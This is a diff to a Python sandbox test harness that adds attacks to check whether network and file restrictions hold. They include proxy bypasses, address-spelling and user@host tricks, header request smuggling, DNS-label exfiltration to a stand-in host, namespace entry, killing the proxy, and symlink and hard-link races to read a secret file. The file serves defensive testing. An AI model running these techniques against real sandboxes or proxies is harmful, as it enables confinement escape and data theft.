@@ -28,12 +28,20 @@ WITHOUT_A_FENCE = (
     "inherited_descriptors",
 )
 """The attacks that are tried without a fence too: they touch nothing but what the trial has made for them."""
+BOUNDED_WITHOUT_A_FENCE = (
+    *("connect_directly", "datagrams_to_the_machine", "a_pathname_socket", "an_abstract_socket"),
+    *("a_link_in_a_granted_folder", "a_hard_link_in_a_granted_folder", "a_link_that_changes_while_it_is_opened"),
+    *("read_beside_what_is_granted", "write_beside_what_is_granted"),
+)
+"""The same of those past a contract's hosts and folders."""
 TARGETS: dict = {}
 libc = ctypes.CDLL(None, use_errno=True)
 
 Attack = Callable[[], bool]
 REACHED: dict[str, Attack] = {}
 CONFINED: dict[str, Attack] = {}
+BOUNDED: dict[str, Attack] = {}
+"""What a contract's `network` and `files` hold, in `auto` as in `strict`."""
 
 
 def reached(attack: Attack) -> Attack:
@@ -43,6 +51,11 @@ def reached(attack: Attack) -> Attack:
 
 def confined(attack: Attack) -> Attack:
     CONFINED[attack.__name__] = attack
+    return attack
+
+
+def bounded(attack: Attack) -> Attack:
+    BOUNDED[attack.__name__] = attack
     return attack
 
 
@@ -577,6 +590,248 @@ def files_in_the_temporary_folder_of_others():
     return reads(TARGETS["temporary"])
 
 
+# --- past the list of hosts and the granted folders ------------------------------------------------------------------
+
+
+def asked(*requests: str, host: str = "", port: int = 0) -> bytes:
+    """What the proxy, or another server, answers to these bytes on one connection."""
+    at = host or "127.0.0.1", port or int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
+    said = b""
+    with socket.create_connection(at, 2) as line:
+        line.settimeout(2)
+        for request in requests:
+            line.sendall(request.encode())
+            with suppress(TimeoutError):
+                said += line.recv(1 << 16)
+    return said
+
+
+def through(target: str, *, plain: str = "") -> bool:
+    """Whether the proxy opens a way to a target, or fetches an address, and the other service answers there."""
+    head = f"GET {plain} HTTP/1.1\r\nHost: x\r\n\r\n" if plain else f"CONNECT {target} HTTP/1.1\r\n\r\n"
+    return b"SECRET" in asked(head, *([] if plain else ["GET / HTTP/1.1\r\nHost: x\r\n\r\n"]))
+
+
+def outside() -> str:
+    return f"127.0.0.1:{TARGETS['outside']}"
+
+
+@bounded
+def connect_directly():
+    return b"SECRET" in asked("GET / HTTP/1.0\r\n\r\n", host="127.0.0.1", port=TARGETS["outside"])
+
+
+@bounded
+def connect_to_another_port_by_the_proxy():
+    return through(outside())
+
+
+@bounded
+def fetch_from_another_port_by_the_proxy():
+    return through("", plain=f"http://{outside()}/")
+
+
+@bounded
+def a_name_of_the_listed_address():
+    return through("", plain=f"http://localhost:{TARGETS['listed']}/") or through(f"localhost:{TARGETS['listed']}")
+
+
+@bounded
+def user_and_host_in_one():
+    listed = f"127.0.0.1:{TARGETS['listed']}"
+    return through(f"{listed}@{outside()}") or through("", plain=f"http://{listed}@{outside()}/")
+
+
+@bounded
+def spellings_of_the_address():
+    port = TARGETS["outside"]
+    names = ("0x7f.1", "2130706433", "[::ffff:127.0.0.1]", "127.1", "0", "localhost", "LOCALHOST", "127.0.0.1.")
+    return any(through(f"{name}:{port}") for name in names)
+
+
+@bounded
+def a_second_host_on_an_open_connection():
+    first = f"GET http://127.0.0.1:{TARGETS['listed']}/ HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n"
+    return b"SECRET" in asked(first + f"GET http://{outside()}/ HTTP/1.1\r\nHost: x\r\n\r\n")
+
+
+@bounded
+def a_second_request_smuggled_in_a_header():
+    head = (
+        f"GET http://127.0.0.1:{TARGETS['listed']}/ HTTP/1.1\nHost: {outside()}\r\nX: y\nConnection: keep-alive\r\n\r\n"
+    )
+    return b"SECRET" in asked(head)
+
+
+@bounded
+def a_redirect_to_another_host():
+    import urllib.request
+
+    with urllib.request.urlopen(f"http://127.0.0.1:{TARGETS['listed']}/away", timeout=3) as answer:
+        return b"SECRET" in answer.read()
+
+
+@bounded
+def a_tunnel_of_names():
+    """Every label would carry something out, if the proxy asked anybody for it."""
+    said = asked("CONNECT c2VjcmV0.tunnel.example:443 HTTP/1.1\r\n\r\n")
+    return b" 403 " not in said and bool(said)
+
+
+@bounded
+def ask_a_name_server():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
+        return line.sendto(b"\0\1\1\0\0\1" + bytes(6) + b"\6secret\7example\0\0\1\0\1", ("192.0.2.53", 53)) > 0
+
+
+@bounded
+def datagrams_to_the_machine():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
+        line.connect(("127.0.0.1", TARGETS["datagrams"]))
+        line.send(b"SECRET")
+        time.sleep(0.1)
+        line.send(b"SECRET")
+    return False  # the trial looks what came
+
+
+@bounded
+def raw_packets():
+    for family, kind in (
+        (socket.AF_PACKET, socket.SOCK_RAW),
+        (socket.AF_INET, socket.SOCK_RAW),
+        (40, socket.SOCK_STREAM),
+    ):
+        with suppress(OSError), socket.socket(family, kind, 1) as line:
+            if family == socket.AF_INET:
+                line.sendto(bytes(8), ("192.0.2.1", 0))
+            return True
+    return False
+
+
+@bounded
+def a_pathname_socket():
+    with socket.socket(socket.AF_UNIX) as line:
+        line.connect(TARGETS["engine"])
+    return True
+
+
+@bounded
+def an_abstract_socket():
+    with socket.socket(socket.AF_UNIX) as line:
+        line.connect("\0" + TARGETS["abstract"])
+    return True
+
+
+@bounded
+def enter_the_network_of_the_caller():
+    with open(f"/proc/{TARGETS['caller']}/ns/net", "rb") as file:
+        return libc.setns(file.fileno(), 0x40000000) == 0
+
+
+@bounded
+def another_interface():
+    made = subprocess.run(["ip", "link", "add", "w0", "type", "dummy"], capture_output=True, check=False)
+    return made.returncode == 0
+
+
+@bounded
+def kill_the_proxy():
+    """It is no process of the attempt's: whoever ended it could take its place on the port."""
+    before = asked(f"CONNECT {outside()} HTTP/1.1\r\n\r\n")
+    for pid in range(max(TARGETS["caller"] - 50, 2), TARGETS["caller"] + 400):
+        with suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
+            if b"workermd" in file.read() and pid not in (os.getpid(), PROGRAM, PROGRAM_PARENT):
+                os.kill(pid, signal.SIGKILL)
+    return asked(f"CONNECT {outside()} HTTP/1.1\r\n\r\n") != before
+
+
+@bounded
+def a_link_in_a_granted_folder():
+    link = os.path.join(TARGETS["cache_granted"], "link")
+    os.symlink(TARGETS["secret"], link)
+    return reads(link)
+
+
+@bounded
+def a_hard_link_in_a_granted_folder():
+    link = os.path.join(TARGETS["cache_granted"], "hard")
+    os.link(TARGETS["secret"], link)
+    return reads(link)
+
+
+@bounded
+def a_link_that_changes_while_it_is_opened():
+    """One process points it inside and outside in turn, another opens it: nothing is checked before it is opened."""
+    folder = TARGETS["cache_granted"]
+    inside, link = os.path.join(folder, "inside"), os.path.join(folder, "racing")
+    with open(inside, "w") as file:
+        file.write("plain")
+    os.symlink(inside, link)
+    pid = os.fork()
+    if pid == 0:
+        until = time.monotonic() + 2
+        while time.monotonic() < until:
+            for target in (TARGETS["secret"], inside):
+                os.symlink(target, link + ".new")
+                os.rename(link + ".new", link)
+        os._exit(0)
+    until, found = time.monotonic() + 2, False
+    while time.monotonic() < until and not found:
+        with suppress(OSError):
+            found = reads(link)
+    os.waitpid(pid, 0)
+    return found
+
+
+@bounded
+def a_folder_that_changes_while_it_is_walked():
+    folder = os.path.join(TARGETS["cache_granted"], "walked")
+    os.makedirs(os.path.join(folder, "real"), exist_ok=True)
+    os.symlink(os.path.dirname(TARGETS["secret"]), os.path.join(folder, "away"))
+    place = os.path.join(folder, "place")
+    os.mkdir(place)
+    pid = os.fork()
+    if pid == 0:
+        until = time.monotonic() + 2
+        while time.monotonic() < until:
+            with suppress(OSError):
+                libc.syscall(
+                    316, -100, place.encode(), -100, os.path.join(folder, "away").encode(), 2
+                )  # exchange the two
+        os._exit(0)
+    until, found = time.monotonic() + 2, False
+    while time.monotonic() < until and not found:
+        with suppress(OSError):
+            found = reads(os.path.join(place, os.path.basename(TARGETS["secret"])))
+    os.waitpid(pid, 0)
+    return found
+
+
+@bounded
+def move_a_granted_folder_away():
+    os.rename(TARGETS["cache_granted"], TARGETS["cache_granted"] + ".moved")
+    return True
+
+
+@bounded
+def write_into_what_is_granted_for_reading():
+    with open(os.path.join(TARGETS["rules_granted"], "rule"), "w") as file:
+        file.write("forged")
+    return True
+
+
+@bounded
+def read_beside_what_is_granted():
+    return reads(TARGETS["secret"]) or reads(os.path.join(TARGETS["cache_granted"], "..", "elsewhere", "secret"))
+
+
+@bounded
+def write_beside_what_is_granted():
+    with open(os.path.join(os.path.dirname(TARGETS["secret"]), "new"), "w") as file:
+        file.write("forged")
+    return True
+
+
 def tried(attack: Attack) -> bool:
     """In a process of its own, for a few seconds."""
     ours, theirs = os.pipe()
@@ -607,8 +862,9 @@ def main() -> None:
     TARGETS.update(json.loads(sys.argv[1]))
     sys.stdin.read()
     signal.signal(signal.SIGUSR1, signal.SIG_IGN)  # of the attack that signals everybody, ourselves among them
-    every = REACHED | CONFINED
-    attacks = {name: every[name] for name in (WITHOUT_A_FENCE if TARGETS["mode"] == "off" else every)}
+    every = BOUNDED if TARGETS.get("bounded") else REACHED | CONFINED
+    harmless = BOUNDED_WITHOUT_A_FENCE if TARGETS.get("bounded") else WITHOUT_A_FENCE
+    attacks = {name: every[name] for name in (harmless if TARGETS["mode"] == "off" else every)}
     print(json.dumps({"result": {name: tried(attack) for name, attack in attacks.items()}}), flush=True)
 
 
